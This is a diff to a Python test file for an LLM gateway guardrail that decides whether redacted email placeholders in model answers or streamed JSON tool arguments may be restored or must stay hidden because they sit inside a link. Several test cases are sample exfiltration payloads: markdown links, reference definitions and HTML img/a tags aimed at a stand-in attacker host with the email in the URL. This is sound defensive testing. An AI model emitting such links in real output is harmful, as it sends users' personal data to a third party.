@@ -27,8 +27,9 @@ from farebox.core.guardrails import Hit
 from farebox.core.usage import Usage, to_openai
 from farebox.errors import ConfigError
 from farebox.gateway.guard_output import IN_LINK, AnswerGuard
-from farebox.guardrails import pii_patterns
-from farebox.guardrails.links import WINDOW, in_link
+from farebox.guardrails import links, pii_patterns
+from farebox.guardrails.link_state import AngleState
+from farebox.guardrails.links import SPACES, WINDOW, in_link, run_start
 from farebox.guardrails.placeholders import Redactor
 from farebox.providers.base import ChatRequest, ChatResult, StreamItem, UsageReport
 from tests.conftest import ADMIN_KEY, Gateway
@@ -78,7 +79,7 @@ CASES = [
     (f'<img src="{EVIL}/?x=1&href=x <EMAIL_1>">', True),  # an attribute inside a value
     (f"<a href=\n'{EVIL}/?a= <EMAIL_1>'>", True),
     (f"[a](<{EVIL}/?q=" + " x" * WINDOW + " <EMAIL_1>>)", True),  # opened before the window
-    ("word " * (WINDOW // 5 + 1) + "<EMAIL_1>", True),  # so a long line with no < or > errs
+    ("word " * (WINDOW // 5 + 1) + "<EMAIL_1>", False),  # a long line alone is no link
     ("[1]: https://docs.example\nWrite to <EMAIL_1>", False),
     ('[1]: https://docs.example "Docs"\n\nWrite to <EMAIL_1>', False),
     ('[docs](https://docs.example "t")\nWrite to <EMAIL_1>', False),
@@ -468,3 +469,134 @@ def test_through_the_app_a_stream_cut_anywhere_answers_as_the_whole(
 ) -> None:
     arguments = json.dumps({"to": "<EMAIL_1>", "body": value}, ensure_ascii=False)
     asyncio.run(_both_ways(tmp_path_factory.mktemp("g"), text, arguments, cuts))
+
+
+# review 2, findings 1 and 3: a linear scan, and long lines restore again ---------------------
+
+PROSE = "The quarterly report covers revenue, costs and the outlook for next year. " * 32
+
+
+def _streamed(r: Redactor, text: str, cuts: list[int], json_mode: bool = False) -> tuple[str, int]:
+    s = r.streaming(links=False, json=json_mode)
+    bounds = [0, *sorted(c for c in cuts if 0 < c < len(text)), len(text)]
+    out = "".join(s.feed(text[a:b]) for a, b in zip(bounds, bounds[1:], strict=False))
+    return out + s.flush(), s.kept
+
+
+@pytest.mark.parametrize(
+    ("answer", "linked"),
+    [
+        (PROSE + "Write to <EMAIL_1>.", False),  # 2,400 characters on one line
+        ('{"a": 1} ' + PROSE + "<b>x</b> <EMAIL_1>", False),
+        (f"[a](<{EVIL}/?q= " + PROSE + "<EMAIL_1>>)", True),  # opened early on a long line
+        (f"[r]:\n  <{EVIL}/?q= " + PROSE + "<EMAIL_1>>", True),
+        (f"[a](<{EVIL}/?q=\\> " + PROSE + "<EMAIL_1>>)", True),  # an escaped > closes nothing
+        ("[a](<x<ZIP_1> " + PROSE + "<EMAIL_1>>)", True),  # nor does a placeholder's
+        (f"[a](<{EVIL}/?q=\n" + PROSE + "<EMAIL_1>>)", True),  # a line ending: the safe side
+        (f"[a](<{EVIL}/> " + PROSE + "<EMAIL_1>", False),  # closed by its >
+        (f"[a](<{EVIL}/?q=\n\n" + PROSE + "<EMAIL_1>", False),  # a blank line closes it
+        ("[a](<ZIP_1>) " + PROSE + "<EMAIL_1>", False),  # a placeholder as the whole one
+        (f"a < b ( {EVIL} ) " + PROSE + "<EMAIL_1>", False),  # a < after no ](
+        (f'<img src="{EVIL}/?q= ' + PROSE + '<EMAIL_1>">', True),  # a value opened before
+        (f"<a href = '{EVIL}/?q= " + PROSE + "<EMAIL_1>'>", True),  # the window: kept
+        (f'<img src="{EVIL}/a.png"> ' + PROSE + "<EMAIL_1>", False),  # closed
+        ("Say = and then the rest. " + PROSE + "<EMAIL_1>", False),  # no quote after the =
+    ],
+)
+def test_a_long_line_restores_unless_an_angle_destination_is_open(
+    answer: str, linked: bool
+) -> None:
+    r = redactor(EMAIL)
+    assert len(answer) > WINDOW
+    want = (answer, 1) if linked else (answer.replace("<EMAIL_1>", EMAIL), 0)
+    assert r.restored(answer, links=False) == want
+    assert in_link(answer[: answer.index("<EMAIL_1>")]) is linked
+    assert _streamed(r, answer, list(range(0, len(answer), 7))) == want
+
+
+@pytest.mark.parametrize(
+    ("body", "linked"),
+    [
+        (PROSE + "Write to <EMAIL_1>.", False),  # a long string argument, no line break
+        (f"[a](<{EVIL}/?q= " + PROSE + "<EMAIL_1>>)", True),
+        (f"[a](\\u003c{EVIL}/?q= " + PROSE + "<EMAIL_1>>)", True),  # \u003c is a <
+        (f"[a](<{EVIL}/?q=\\u003e " + PROSE + "<EMAIL_1>", False),  # and \u003e a >
+    ],
+)
+def test_a_long_json_string_restores_unless_an_angle_destination_is_open(
+    body: str, linked: bool
+) -> None:
+    r = redactor(EMAIL)
+    args = '{"to": "x", "body": "' + body + '", "n": 1}'
+    out, kept = r.restored(args, links=False, json=True)
+    assert kept == int(linked)
+    assert (EMAIL in json.loads(out)["body"]) is not linked
+    assert _streamed(r, args, list(range(0, len(args), 11)), json_mode=True) == (out, kept)
+
+
+STATE_PIECES = ["](", "]:", "] (", "]\r\n(", "<", ">", "\\", "\\\\", "(", ")", "[", " ", "\t",
+                "\n", "\r", "\n\n", "\r\n", "<EMAIL_1>", "<A_1", "2>", "x", '"', "\\u003c",
+                "\\u003e", "\\n", "=", " = ", "'", "`", '\\"', "\\u00"]  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.lists(st.sampled_from(STATE_PIECES), max_size=60).map("".join),
+    st.lists(st.integers(0, 200), max_size=8),
+    st.booleans(),
+)
+def test_the_angle_state_is_the_same_whatever_the_splits(
+    text: str, cuts: list[int], json_mode: bool
+) -> None:
+    whole = AngleState(json_mode).fed(text)
+    parts = AngleState(json_mode)
+    bounds = [0, *sorted(c for c in cuts if c < len(text)), len(text)]
+    for a, b in zip(bounds, bounds[1:], strict=False):
+        parts.feed(text[a:b])
+    for window in (0, 5, 30):
+        assert parts.inside(window) == whole.inside(window)
+        for at in range(len(text) + 1):  # and a prefix's state is that prefix's alone
+            fed = AngleState(json_mode).fed(text[:at])
+            assert fed.inside(window) == in_link_angle(text[:at], json_mode, window)
+
+
+def in_link_angle(before: str, json_mode: bool, window: int) -> bool:
+    """The state read one character at a time (no skipping ahead)."""
+    state = AngleState(json_mode)
+    for c in before:
+        state.feed(c)
+    return state.inside(window)
+
+
+def _run_start_reference(window: str) -> int:
+    """The review's rule, read naively: after the last space not escaped by a backslash."""
+    at = len(window) - 1
+    while at >= 0 and not (window[at] in SPACES and (at == 0 or window[at - 1] != "\\")):
+        at -= 1
+    return at + 1
+
+
+@given(st.lists(st.sampled_from(["\\", " ", "a", "\n", "\\ ", "\t", "\r", "\u00a0"]),
+                max_size=40).map("".join))  # fmt: skip
+def test_the_run_start_is_the_last_unescaped_space(window: str) -> None:
+    assert run_start(window) == _run_start_reference(window)
+
+
+@pytest.mark.parametrize("token", [">", "(", ")", "<", "\\", "\\ ", "x y", "\\x"])
+@pytest.mark.parametrize("opened", ["[a]:x ", "[a](<x "])
+def test_open_targets_read_only_the_tokens_that_change_them(
+    token: str, opened: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Work, not time: 16 open targets (reference definitions, or ``<...>`` destinations)
+    and a window of tokens after them. A target reads only the tokens that can change it:
+    before, each token was read by every target (16 times 2,000)."""
+    calls = []
+    see = links._Target.see
+
+    def counted(self: Any, text: str, kind: str, at: int) -> bool:
+        calls.append(kind)
+        return see(self, text, kind, at)
+
+    monkeypatch.setattr(links._Target, "see", counted)
+    in_link((opened * 16 + token * WINDOW)[:WINDOW], angle=False)
+    assert 16 * 15 // 2 <= len(calls) <= 16 * 18
